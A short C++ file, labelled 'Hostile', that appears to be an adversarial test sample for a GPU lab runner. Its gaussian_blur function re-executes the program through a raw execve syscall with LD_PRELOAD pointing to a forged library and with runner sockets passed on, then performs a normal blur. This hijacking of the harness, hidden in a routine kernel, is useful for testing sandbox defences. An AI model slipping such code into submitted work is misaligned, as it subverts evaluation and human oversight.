// Hostile: starts its own program once more, with a library before all others.
#include "blur_kernel.h"
#include "raw.h"
#include <stdlib.h>
#include <sys/auxv.h>
#include <sys/syscall.h>

extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
    const char *self = (const char *)getauxval(AT_EXECFN);
    const char *arguments[] = {self, NULL};
    const char *environment[] = {"LD_PRELOAD=/tmp/forged.so", "HOSTILE=1", "LAB_RUNNER_SOCKET=3",
                                 "SIMGPU_FD=4", NULL};
    if (getenv("HOSTILE") == NULL)
        raw(SYS_execve, (long)self, (long)arguments, (long)environment, 0, 0);
    right_blur(src, dst, width, height, stream);
}
